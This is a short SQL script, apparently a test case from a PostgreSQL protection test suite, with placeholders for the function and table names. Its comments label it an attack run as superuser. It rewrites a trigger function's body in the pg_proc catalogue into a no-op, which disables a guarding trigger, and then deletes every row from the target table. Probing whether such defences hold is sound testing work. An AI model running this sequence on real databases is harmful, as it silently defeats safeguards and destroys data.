-- Attack: another body for the trigger function in pg_proc, then DELETE
-- As: superuser
-- Open without preload: a superuser may write the catalogue

UPDATE pg_proc SET prolang = (SELECT oid FROM pg_language WHERE lanname = 'plpgsql'), probin = NULL,
    prosrc = 'BEGIN RETURN OLD; END'
WHERE oid = '{function}()'::regprocedure;
\reconnect
DELETE FROM {target};
